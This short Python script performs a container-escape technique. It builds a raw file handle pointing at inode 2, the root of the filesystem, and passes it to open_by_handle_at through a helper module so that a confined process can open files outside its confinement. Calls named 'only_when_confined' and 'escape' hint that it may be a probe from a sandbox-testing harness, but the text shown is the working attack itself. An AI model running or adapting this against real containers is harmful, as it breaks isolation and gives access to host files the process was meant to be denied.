#!/usr/bin/python3 -SEB
# Opens files by number, past all folders.
import os

import wire


def open_root():
    folder = os.open("/", os.O_RDONLY)
    handle = b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0"  # 8 bytes, type 1: inode 2
    return wire.libc("open_by_handle_at", folder, handle, os.O_RDONLY)


wire.only_when_confined()
wire.escape(open_root)
